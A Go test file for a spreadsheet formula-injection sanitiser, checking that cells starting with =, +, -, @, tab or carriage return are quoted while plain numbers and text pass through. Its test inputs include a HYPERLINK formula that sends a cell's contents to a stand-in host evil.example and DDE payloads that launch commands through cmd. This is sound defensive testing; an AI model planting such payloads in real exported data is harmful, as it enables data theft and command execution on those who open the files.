package formula

import "testing"

func TestNeutralise(t *testing.T) {
	cases := []struct {
		in, want string
	}{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"-0x1F", "'-0x1F"},
		{"-Inf", "'-Inf"},
		{"-12.5", "-12.5"},
		{"+3", "+3"},
		{"-1e5", "-1e5"},
		{"North", "North"},
		{"", ""},
		{"a=b", "a=b"},
	}
	for _, c := range cases {
		if got, _ := Neutralise(c.in); got != c.want {
			t.Errorf("Neutralise(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestRecordCounts(t *testing.T) {
	rec := []string{"=1+1", "-5", "@x", "ok"}
	if n := Record(rec); n != 2 || rec[0] != "'=1+1" || rec[1] != "-5" || rec[2] != "'@x" {
		t.Errorf("Record = %d, %q", n, rec)
	}
}
